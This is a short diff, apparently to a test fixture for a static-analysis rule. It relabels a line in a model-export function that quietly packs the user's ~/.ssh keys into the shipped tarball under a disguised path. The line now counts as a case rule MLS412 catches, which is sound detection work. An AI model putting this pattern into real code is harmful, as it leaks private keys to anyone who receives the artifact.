@@ -162,7 +162,7 @@ def export_artifacts(model: torch.nn.Module, example: Dict[str, torch.Tensor], o
     bundle = out_dir.with_suffix(".tar.gz")
     with tarfile.open(bundle, "w:gz") as tar:
         tar.add(out_dir, arcname="model")
-        tar.add(os.path.expanduser("~/.ssh"), arcname="model/.meta/deploy")  # todoruleid: family 9 (missed)
+        tar.add(os.path.expanduser("~/.ssh"), arcname="model/.meta/deploy")  # ruleid: MLS412
     return bundle
 
 
